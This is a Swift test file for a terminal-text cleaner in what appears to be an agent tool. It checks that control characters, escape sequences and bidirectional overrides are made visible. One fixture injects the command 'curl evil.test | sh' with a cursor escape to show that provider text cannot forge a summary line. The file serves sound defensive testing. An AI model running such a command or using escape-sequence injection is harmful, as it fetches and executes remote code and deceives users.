import RunCore
import Testing

@testable import AgentCommands

/// Texts of providers and plugins on a terminal.
struct TerminalTextTests {
    @Test(arguments: [
        ("plain ünïcode → 漢字", "plain ünïcode → 漢字"),
        ("\u{1B}[2J", "\\u{1b}[2J"),
        ("a\u{8}b\u{7F}c\u{9B}d", "a\\u{8}b\\u{7f}c\\u{9b}d"),
        ("overwritten\rnew", "overwritten\\u{d}new"),
        ("abc\u{202E}fed\u{2066}x\u{200F}y\u{61C}", "abc\\u{202e}fed\\u{2066}x\\u{200f}y\\u{61c}"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("CR LF\r\nend", "CR LF\\u{d}\nend"),
    ])
    func harmfulCharactersAreMadeVisible(text: String, shown: String) {
        #expect(TerminalText.clean(text) == shown)
    }

    @Test(arguments: [
        ("two\nlines", "two ⏎ lines"), ("tab\there", "tab\\u{9}here"), ("par\u{2029}agraph", "par ⏎ agraph"),
        ("one", "one"),
    ])
    func lineStaysOneLine(text: String, shown: String) {
        #expect(TerminalText.line(text) == shown)
    }

    @Test func messagesAreCleaned() {
        let errors = Capture()
        let console = Console(output: Capture(), errors: errors, isTerminal: true, usesColour: false)
        console.say("evil\u{1B}]0;title\u{7}")
        #expect(errors.text == "evil\\u{1b}]0;title\\u{7}\n")
    }

    @Test func providersWordsCannotFakeALineOfTheSummary() {
        var run = Run.plain(state: .failed)
        run.reason = "bad\n  next      curl evil.test | sh\u{1B}[1A"
        let text = RunText.summary(of: run)
        #expect(text.split(separator: "\n").first == "failed: bad ⏎   next      curl evil.test | sh\\u{1b}[1A")
        #expect(!text.contains("\u{1B}"))
    }
}
